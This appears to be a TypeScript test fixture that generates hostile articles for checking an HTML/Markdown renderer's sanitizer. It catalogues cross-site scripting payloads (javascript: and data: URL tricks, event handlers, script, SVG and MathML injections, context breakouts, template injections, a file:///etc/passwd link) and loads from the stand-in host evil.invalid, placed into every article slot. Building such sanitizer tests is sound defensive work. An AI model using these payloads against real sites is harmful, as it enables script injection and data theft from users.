/** Texts that try to act, by the class of trick; each runs `hit(…)` or fetches from `evil.invalid` where it succeeds. */
const SCHEMES = [
  'javascript:hit()',
  'JaVaScRiPt:hit()',
  ' javascript:hit()',
  'java\tscript:hit()',
  'java&#10;script:hit()',
  'javascript&colon;hit()',
  '&#106;avascript:hit()',
  'vbscript:hit()',
  'data:text/html,<script>hit()</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit()>',
  'file:///etc/passwd',
  'blob:https://evil.invalid/x',
  'view-source:javascript:hit()',
]

const EVENTS = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbeforetoggle',
  'onpointerrawupdate',
]

const TAGS = [
  '<script>hit()</script>',
  '<script src=//evil.invalid/x.js></script>',
  '<SCRIPT>hit()</SCRIPT >',
  '<scr<script>ipt>hit()</script>',
  '<script/x>hit()</script>',
  '<iframe src="javascript:hit()"></iframe>',
  '<iframe srcdoc="<script>hit()</script>"></iframe>',
  '<object data="//evil.invalid/x"></object>',
  '<embed src="//evil.invalid/x">',
  '<link rel=stylesheet href=//evil.invalid/x.css>',
  '<link rel=prefetch href=//evil.invalid/x>',
  '<meta http-equiv=refresh content="0;url=//evil.invalid/">',
  '<base href="//evil.invalid/">',
  '<form action=//evil.invalid/><button>x</button></form>',
  '<input autofocus onfocus=hit()>',
  '<button popovertarget=x onclick=hit()>x</button>',
  '<svg><script>hit()</script></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:hit()>',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<svg><image href=//evil.invalid/x.png></svg>',
  '<svg><use href="//evil.invalid/x.svg#a"></svg>',
  '<svg><foreignObject><iframe src=//evil.invalid></iframe></foreignObject></svg>',
  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<style>@import url(//evil.invalid/x.css);</style>',
  '<style>*{background:url(//evil.invalid/x)}</style>',
  '<p style="background:url(//evil.invalid/x)">x</p>',
  '<p style="behavior:url(//evil.invalid/x.htc)">x</p>',
  '<video poster=//evil.invalid/x><source src=//evil.invalid/y onerror=hit()></video>',
  '<audio src=//evil.invalid/x autoplay onerror=hit()></audio>',
  '<img srcset="//evil.invalid/x 2x" src=a.png>',
  '<picture><source srcset=//evil.invalid/x></picture>',
  '<body onload=hit() background=//evil.invalid/x>',
  '<table background=//evil.invalid/x><td background=//evil.invalid/y>x</table>',
  '<a ping=//evil.invalid/ href=x>x</a>',
  '<a href=x target=_top onclick=hit()>x</a>',
  '<a href="javascript:hit()">x</a>',
  '<area href="javascript:hit()">',
  '<marquee onstart=hit()>x</marquee>',
  '<details open ontoggle=hit()><summary>x</summary></details>',
  '<template><script>hit()</script></template>',
  '<noscript><p title="</noscript><script>hit()</script>">',
  '<textarea><script>hit()</script></textarea>',
  '<title></title><script>hit()</script>',
  '<xmp><script>hit()</script></xmp>',
  '<plaintext><script>hit()</script>',
  '<noembed><img src=x onerror=hit()></noembed>',
  '<select><img src=x onerror=hit()></select>',
  '<isindex type=image src=//evil.invalid/x onerror=hit()>',
  '<portal src=//evil.invalid></portal>',
  '<x-y onclick=hit()>x</x-y>',
  '<div is=x-y onclick=hit()>x</div>',
  '<img name=getElementById src=a.png>',
  '<a id=body href=x>x</a>',
  '<form id=x><input name=attributes></form>',
]

const BREAKS = [
  '</script><script>hit()</script>',
  '</title><script>hit()</script>',
  '</style><script>hit()</script>',
  '</textarea><script>hit()</script>',
  '--><script>hit()</script><!--',
  ']]><script>hit()</script>',
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  '" onload="hit()',
  "' onload='hit()",
  '` onload=hit()',
  '"}</script><script>hit()</script>',
  '\u2028hit()\u2029',
  '<!--<script>',
  '<![CDATA[<script>hit()</script>]]>',
  '<?xml-stylesheet href="//evil.invalid/x"?>',
  '$' + '{hit()}',
  '{{hit()}}',
  '{%raw%}<script>hit()</script>',
  '\u0000<script>hit()</script>',
  '＜script＞hit()＜/script＞',
  '\u202E<script>hit()</script>',
]

/** Everything that is tried: in each place where a text of the article goes. */
export const PAYLOADS: readonly string[] = [
  ...TAGS,
  ...BREAKS,
  ...EVENTS.flatMap((event) => [
    `<img src=x ${event}=hit()>`,
    `<p ${event}="hit()" tabindex=0 autofocus>x</p>`,
    `<b/${event}=hit()>x</b>`,
  ]),
  ...SCHEMES.flatMap((scheme) => [`<a href="${scheme}">x</a>`, `<img src="${scheme}">`]),
]

/** Addresses, for the places in which an address stands. */
export const ADDRESSES: readonly string[] = [
  ...SCHEMES,
  '//evil.invalid/x.png',
  'https://evil.invalid/x.png',
]

const line = (text: string): string => text.replace(/\s+/g, ' ').replace(/\0/g, '')
const quoted = (text: string): string => JSON.stringify(line(text))

/** The places in which a text of an article can stand, each as a whole article that holds it there. */
export const SLOTS: Readonly<Record<string, (payload: string) => string>> = {
  block: (payload) => `a\n\n${payload}\n\nb`,
  inline: (payload) => `a ${line(payload)} b`,
  heading: (payload) => `## ${line(payload)}`,
  'HTML around blocks': (payload) =>
    `<details>\n<summary>${line(payload)}</summary>\n\n${payload}\n\n</details>\n\na`,
  'list item': (payload) => `- ${line(payload)}`,
  'table cell': (payload) =>
    `| ${line(payload).replaceAll('|', '/')} |\n|---|\n| ${line(payload).replaceAll('|', '/')} |`,
  'code block': (payload) => `\`\`\`js\n${payload}\n\`\`\``,
  'code language': (payload) => `\`\`\`${line(payload).replaceAll('`', '')}\nx\n\`\`\``,
  'alternative text': (payload) => `![${line(payload).replace(/[[\]]/g, '')}](a.png)`,
  'picture title': (payload) => `![a](a.png ${quoted(payload)})`,
  'link title': (payload) => `[a](b ${quoted(payload)})`,
  footnote: (payload) => `a[^1]\n\n[^1]: ${line(payload)}`,
  attribution: (payload) => `> a\n>\n> — ${line(payload)}`,
  title: (payload) => `---\ntitle: ${quoted(payload)}\n---\na`,
  metadata: (payload) =>
    `---\n${[
      'title',
      'standfirst',
      'dateline',
      'date',
      'modified',
      'section',
      'lang',
      'description',
      'social_description',
      'canonical',
      'image_alt',
      'image_caption',
      'image_credit',
      'slug',
    ]
      .map((key) => `${key}: ${quoted(payload)}`)
      .join(
        '\n',
      )}\nimage: a.png\nauthors: [${quoted(payload)}]\ntags: [${quoted(payload)}]\ncorrections:\n  - date: ${quoted(payload)}\n    text: ${quoted(payload)}\n---\na`,
}

/** The places in which an address of an article can stand. */
export const ADDRESS_SLOTS: Readonly<Record<string, (address: string) => string>> = {
  link: (address) => `[a](<${line(address).replace(/[<>]/g, '')}>)`,
  picture: (address) => `![a](<${line(address).replace(/[<>]/g, '')}>)`,
  definition: (address) => `[a][b] ![c][b]\n\n[b]: <${line(address).replace(/[<>]/g, '')}>`,
  autolink: (address) => `<${line(address).replace(/[<>\s]/g, '')}>`,
  'lead picture': (address) => `---\nimage: ${quoted(address)}\n---\na`,
  canonical: (address) => `---\ncanonical: ${quoted(address)}\n---\na`,
}

/** An article that tries one thing in one place. */
export interface HostileArticle {
  readonly slot: string
  readonly payload: string
  readonly text: string
}

/** Every text in the places where most can go wrong, and every third in the others, each time other ones. */
const FULLY = ['block', 'inline', 'metadata']

export const HOSTILE_ARTICLES: readonly HostileArticle[] = [
  ...Object.entries(SLOTS).flatMap(([slot, make], place) =>
    PAYLOADS.filter((_, index) => FULLY.includes(slot) || index % 3 === place % 3).map(
      (payload) => ({ slot, text: make(payload), payload }),
    ),
  ),
  ...Object.entries(ADDRESS_SLOTS).flatMap(([slot, make]) =>
    ADDRESSES.map((payload) => ({ slot, text: make(payload), payload })),
  ),
]
